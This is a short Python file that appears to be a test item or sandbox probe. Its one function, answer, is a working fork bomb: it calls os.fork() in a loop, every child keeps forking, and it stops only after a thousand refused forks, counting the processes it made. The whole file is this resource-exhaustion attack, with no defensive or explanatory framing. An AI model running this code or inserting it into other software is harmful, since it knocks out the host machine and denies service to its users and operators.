"""Starts processes without end; those that start do the same."""

import os


def answer(canary, port):
    made, refused = 0, 0
    while refused < 1000:
        try:
            made += os.fork() > 0
        except OSError:
            refused += 1
    return f"made {made}"
